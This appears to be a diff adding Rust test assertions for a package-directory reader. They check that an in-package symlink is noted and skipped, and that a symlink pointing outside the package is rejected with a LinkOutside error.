+        std::os::unix::fs::symlink("real.py", pkg.join("lib/alias.py")).unwrap();
+        let p = read_dir(&pkg, &Limits::default()).unwrap();
+        assert_eq!(paths(&p), ["lib/real.py"]);
+        assert!(
+            p.notes.iter().any(|n| n.contains("lib/alias.py")),
+            "{:?}",
+            p.notes
+        );
+        std::os::unix::fs::symlink("../outside.py", pkg.join("setup.py")).unwrap();
+        match read_dir(&pkg, &Limits::default()) {
+            Err(e @ ArchiveError::LinkOutside { .. }) => {
+                let e = e.to_string();
+                assert!(
+                    e.contains("\"setup.py\"") && e.contains("../outside.py"),
+                    "{e}"
+                );
+            }
+            other => panic!("expected the link to block, got {other:?}"),
+        }
     }
 
     /// A reader of `len` bytes that counts how many were asked of it.
